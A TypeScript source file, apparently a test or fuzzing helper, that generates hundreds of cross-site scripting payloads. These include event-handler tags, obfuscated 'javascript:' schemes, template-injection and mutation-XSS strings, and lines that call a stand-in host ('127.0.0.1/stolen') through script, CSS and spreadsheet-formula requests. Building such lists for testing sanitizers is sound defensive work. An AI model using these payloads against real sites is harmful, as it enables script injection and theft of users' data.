/** Elements that load something by themselves, or run code when the page touches them. */
const elements = [
  'img src=x',
  'image src=x',
  'svg',
  'svg/x',
  'body',
  'video src=x',
  'audio src=x',
  'video><source',
  'object data=x',
  'embed src=x',
  'iframe src=x',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'details open',
  'marquee',
  'math href=x',
  'form action=x',
  'x contenteditable',
  'link rel=stylesheet href=x',
  'style',
  'isindex',
] as const;

const events = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onmouseover',
  'onanimationstart',
  'onpointerenter',
  'ONERROR',
  'onerror\u0000',
] as const;

/** Ends what the text might have been put into: an attribute, a comment, a script, a style, a template. */
const ends = ['', '">', "'>", '-->', '</script>', '</style>', '</textarea>', '`', '${', '{{'];

const withScheme = (code: string): readonly string[] =>
  [
    'javascript:',
    'JaVaScRiPt:',
    'java\nscript:',
    'java\tscript:',
    '\u0001javascript:',
    'data:text/html,<script>',
    'vbscript:',
    'blob:',
    'earmark://call/',
    'file:///etc/passwd#',
  ].flatMap((scheme) => [
    `<a href="${scheme}${code}">x</a>`,
    `<iframe src="${scheme}${code}">`,
    `<form action="${scheme}${code}"><button>x</button></form>`,
    `<base href="${scheme}${code}">`,
    `<meta http-equiv=refresh content="0;url=${scheme}${code}">`,
    `[x](${scheme}${code})`,
    `<svg><animate attributeName=href values="${scheme}${code}">`,
  ]);

const expressions = (code: string): readonly string[] => [
  `{{constructor.constructor('${code}')()}}`,
  `\${${code}}`,
  `<%= ${code} %>`,
  `#{${code}}`,
  `"-(${code})-"`,
  `</title><script>${code}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  `<svg><style><![CDATA[</style><img src=x onerror=${code}>]]>`,
  `\u202E<script>${code}</script>`,
  `＜script＞${code}＜/script＞`,
  `&lt;script&gt;${code}&lt;/script&gt;`,
  `%3Cscript%3E${code}%3C/script%3E`,
  `<script src="//127.0.0.1/stolen"></script>`,
  `<style>@import "http://127.0.0.1/stolen"</style>`,
  `<div style="background:url(http://127.0.0.1/stolen)">`,
  `=HYPERLINK("http://127.0.0.1/stolen","x")`,
];

/** More than 500 texts that would run `code`, or load something, if any of them were taken for HTML. */
export const scriptPayloads = (code: string): readonly string[] => [
  ...elements.flatMap((element, at) =>
    events.map(
      (event, nth) =>
        `${ends[(at + nth) % ends.length] ?? ''}<${element} ${event}="${code}"></${element.split(/[ />]/u)[0] ?? ''}>`,
    ),
  ),
  ...elements.flatMap((element) => events.map((event) => `<${element} ${event}=${code}`)),
  ...withScheme(code),
  ...ends.map((end) => `${end}<script>${code}</script>`),
  ...expressions(code),
];
